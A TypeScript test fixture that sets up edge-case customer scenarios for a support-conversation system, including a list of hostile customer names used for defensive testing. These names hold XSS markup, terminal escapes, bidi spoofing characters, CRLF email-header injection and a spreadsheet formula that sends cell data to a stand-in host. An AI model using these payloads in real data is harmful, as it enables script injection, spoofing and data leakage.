import { rules } from './narrator.ts';
import type { Customer } from './people.ts';
import type { Scene, Stage } from './stage.ts';
import { day, minute } from '../time.ts';

type Emails = NonNullable<Customer['emails']>;

const mail = (address: string, primary = false): Emails[number] => ({
  normalized: address.toLowerCase(),
  original: address,
  primary,
});

/** Names that do harm when printed carelessly. */
const hostileNames: readonly (readonly [string, string])[] = [
  ['terminal escapes', '\u001b[2J\u001b[31mMallory\u001b]0;owned\u0007 Red'],
  ['markup', '<script>alert(1)</script><img src=x onerror="alert(2)"> O\'Hara & Sons'],
  ['bidirectional controls', 'Eve \u202etxt.exe\u202c \u2066Reverse\u2069'],
  ['a spreadsheet formula', '=HYPERLINK("https://example.org/?"&A1,"Click")'],
  ['a very long name', `Maximiliana ${'Bartholomäa-'.repeat(80)}Ende`],
  ['line breaks', 'Bcc: everybody@example.org\r\nSubject: injected\r\n\r\nHello'],
];

/** The customer cannot simply be surveyed. */
export function setCustomerTraps(stage: Stage): void {
  const { setting, anchor } = stage;
  const { directory, identifiers } = setting;
  const today = Math.floor(anchor / day);
  const closed = (scene: Scene): Scene => {
    scene.askAndAnswer();
    scene.narrator.close(scene.at(60), scene.closer);
    return scene;
  };

  closed(
    stage.scene('no_address', 'The customer has neither an email address nor a phone number.', {
      channel: 'facebook',
      customer: { emails: [], phones: [] },
    }),
  );
  closed(
    stage.scene('phone_only', 'The customer has a mobile number and no email address.', {
      channel: 'sms',
      customer: { emails: [] },
    }),
  );
  closed(
    stage.scene('bad_address', 'The only email address is invalid.', {
      channel: 'chat',
      customer: { emails: [{ original: 'not-an-address', primary: true }] },
    }),
  );
  closed(
    stage.scene('several_addresses', 'Three email addresses; the primary one is the last.', {
      customer: {
        emails: [
          mail(`old.${today}@example.net`),
          mail(`work.${today}@example.org`),
          mail(`primary.${today}@example.com`, true),
        ],
      },
    }),
  );
  closed(
    stage.scene('bad_primary_address', 'The primary address is invalid, the second one is valid.', {
      customer: { emails: [{ original: 'nobody@', primary: true }, mail(`second.${today}@example.org`)] },
    }),
  );
  for (const [kind, name] of hostileNames) {
    const scene = closed(
      stage.scene('hostile_name', `The customer's name holds ${kind}.`, {
        channel: 'chat',
        customer: { name },
      }),
    );
    scene.narrator.note(scene.at(70), scene.helper, `Spoke to ${name}`.replace(/<[^>]*>/g, ''));
  }

  {
    const scene = stage.scene('merged_customer', 'The customer was merged twice: 301, then 301 again.');
    closed(scene);
    const middle = stage.profile('merged_in_the_middle');
    const last = stage.profile('merged_at_last', { name: 'Petra Remains' });
    [scene.profile, middle].forEach((gone, index) => {
      const into = index === 0 ? middle : last;
      stage.merged.set(gone.id, into.id);
      stage.merges.push({
        at: scene.at(120) + index * minute,
        id: scene.story.nextId('event'),
        type: 'CUSTOMER/MERGED',
        initiator: scene.closer,
        content: {
          destinationCustomerId: into.id,
          destinationConversationId: scene.story.id,
          sourceCustomerId: gone.id,
          sourceConversationId: scene.story.id,
        },
      });
    });
  }

  for (const [name, topic, what] of [
    ['opt_out_topic', 'do_not_send_stella', 'Has the opt-out topic.'],
    ['opt_out_child_topic', 'Legal dispute', 'Has a child topic of the opt-out topic.'],
    [
      'opt_out_other_spelling',
      ' Do_Not_Send_Stella ',
      'Has a disabled topic with another spelling of the opt-out name.',
    ],
  ] as const) {
    const scene = stage.scene(name, what);
    scene.askAndAnswer();
    scene.narrator.topic(scene.at(30), scene.helper, { add: directory.topicNamed(topic) });
    scene.narrator.close(scene.at(60), scene.closer);
  }
  {
    const scene = stage.scene(
      'opt_out_removed',
      'Had the opt-out topic, which was removed before the closing.',
    );
    scene.askAndAnswer();
    const topic = directory.topicNamed('do_not_send_stella');
    scene.narrator.topic(scene.at(30), scene.helper, { add: topic });
    scene.narrator.topic(scene.at(40), scene.helper, { remove: topic });
    scene.narrator.close(scene.at(60), scene.closer);
  }

  const regular = stage.profile('busy_customer');
  for (let visit = 0; visit < 104; visit += 1) {
    const scene = stage.scene('busy_customer', 'The customer has more than 100 conversations.', {
      channel: 'sms',
      customer: regular,
      hoursAgo: 30 * 24 - visit * 6,
    });
    scene.narrator.open(scene.at(0), scene.customer, directory.inboxes[0]?.id ?? '');
    scene.narrator.message(scene.at(0), scene.customer, 'It is me again.');
    scene.narrator.assign(scene.at(1), rules, { agentId: scene.owner.id }, 'AUTOMATED_ASSIGNMENT');
    scene.narrator.message(scene.at(3), scene.owner, 'Welcome back! How can I help?');
    scene.narrator.topic(scene.at(4), scene.owner, { add: directory.topicNamed('Product advice') });
    scene.narrator.close(scene.at(20), scene.owner);
  }

  {
    const scene = closed(stage.scene('id_with_dash', 'The id of the conversation begins with a dash.'));
    const plain = scene.story.id;
    const dashed = `-${identifiers.make({ kind: 'created', day: today, number: 0xffff, part: 0 }).slice(1)}`;
    scene.story.id = dashed;
    for (const { body } of scene.story.items) if (body.conversationId === plain) body.conversationId = dashed;
    for (const { content } of scene.story.events)
      if (content.conversationId === plain) content.conversationId = dashed;
  }
}
